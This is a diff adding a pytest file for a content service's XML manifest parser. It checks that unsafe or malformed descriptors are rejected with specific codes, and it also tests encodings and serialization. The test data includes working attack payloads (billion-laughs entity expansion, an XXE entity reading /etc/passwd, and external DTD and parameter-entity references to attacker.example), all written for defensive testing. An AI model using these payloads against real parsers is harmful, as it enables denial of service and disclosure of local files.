@@ -1,0 +1,121 @@
+"""Descriptors are parsed safely: no DTDs, no entities, no external references, any encoding."""
+
+from __future__ import annotations
+
+import pytest
+
+from content_service.packaging.model import PackageRejected
+from content_service.standards import detect_and_parse
+from content_service.standards.xml import parse_descriptor, serialize
+from tests.memory_source import MemorySource
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]>
+<manifest>&lol3;</manifest>"""
+
+XXE_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<manifest identifier="m">&xxe;</manifest>"""
+
+XXE_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd">
+<manifest identifier="m"/>"""
+
+PLAIN_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE manifest>
+<manifest identifier="m"/>"""
+
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
+<m/>"""
+
+
+def _code(data: bytes) -> str:
+    with pytest.raises(PackageRejected) as refused:
+        parse_descriptor(data, "imsmanifest.xml")
+    return refused.value.problems[0].code
+
+
+@pytest.mark.parametrize(
+    ("data", "code"),
+    [
+        (BILLION_LAUGHS, "xml.entities_forbidden"),
+        (XXE_ENTITY, "xml.entities_forbidden"),
+        (PARAMETER_ENTITY, "xml.entities_forbidden"),
+        (XXE_DTD, "xml.external_reference_forbidden"),
+        (PLAIN_DTD, "xml.dtd_forbidden"),
+        (b"<manifest><item></manifest>", "xml.malformed"),
+        (b"", "xml.malformed"),
+        (b'<?xml version="1.0" encoding="klingon"?><manifest/>', "xml.malformed"),
+        (b"<manifest>&undeclared;</manifest>", "xml.malformed"),
+        (b"<manifest>" + b"<item>" * 5000 + b"</item>" * 5000 + b"</manifest>", "xml.too_deep"),
+    ],
+    ids=[
+        "billion-laughs",
+        "xxe-entity",
+        "parameter-entity",
+        "external-dtd",
+        "dtd",
+        "mismatch",
+        "empty",
+        "unknown-encoding",
+        "undeclared-entity",
+        "nested-too-deep",
+    ],
+)
+def test_unsafe_or_broken_descriptors_are_refused_with_a_specific_code(data: bytes, code: str) -> None:
+    assert _code(data) == code
+
+
+def test_malformed_xml_detail_names_the_line() -> None:
+    with pytest.raises(PackageRejected) as refused:
+        parse_descriptor(b"<manifest>\n  <organizations>\n</manifest>", "imsmanifest.xml")
+    problem = refused.value.problems[0]
+    assert "line 3" in problem.detail
+    assert problem.path == "imsmanifest.xml"
+
+
+def test_xxe_is_refused_through_detection_without_reading_other_files() -> None:
+    source = MemorySource({"imsmanifest.xml": XXE_ENTITY, "index.html": b"secret"})
+    with pytest.raises(PackageRejected) as refused:
+        detect_and_parse(source)
+    assert refused.value.problems[0].code == "xml.entities_forbidden"
+    assert source.reads == ["imsmanifest.xml"]
+
+
+def test_a_utf8_byte_order_mark_is_accepted() -> None:
+    document = parse_descriptor(b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?><tincan/>', "tincan.xml")
+    assert document.root.tag == "tincan"
+
+
+@pytest.mark.parametrize("encoding", ["windows-1252", "iso-8859-1", "utf-16"])
+def test_declared_encodings_are_honoured(encoding: str) -> None:
+    data = f'<?xml version="1.0" encoding="{encoding}"?><title>Café crème</title>'.encode(encoding)
+    assert "".join(parse_descriptor(data, "cmi5.xml").root.itertext()) == "Café crème"
+
+
+def test_serialize_keeps_the_document_prefixes_and_reparses_on_its_own() -> None:
+    document = parse_descriptor(
+        b'<m xmlns="urn:cp" xmlns:ss="http://www.imsglobal.org/xsd/imsss">'
+        b'<ss:sequencing ID="a&amp;b"><ss:controlMode flow="true"/><ss:x>t &lt; u</ss:x></ss:sequencing></m>',
+        "imsmanifest.xml",
+    )
+    text = serialize(document.root[0], document)
+    assert text == (
+        '<ss:sequencing xmlns:ss="http://www.imsglobal.org/xsd/imsss" ID="a&amp;b">'
+        '<ss:controlMode flow="true"/><ss:x>t &lt; u</ss:x></ss:sequencing>'
+    )
+    assert parse_descriptor(text.encode(), "fragment").root.get("ID") == "a&b"
+
+
+def test_serialize_renames_only_prefixes_that_would_clash() -> None:
+    document = parse_descriptor(
+        b'<m xmlns="urn:cp" xmlns:a="urn:a"><s xmlns="urn:seq" a:x="1"><t xmlns="urn:cp">v</t></s></m>',
+        "imsmanifest.xml",
+    )
+    fragment = parse_descriptor(serialize(document.root[0], document).encode(), "fragment").root
+    assert (fragment.tag, fragment.attrib, fragment[0].tag) == ("{urn:seq}s", {"{urn:a}x": "1"}, "{urn:cp}t")
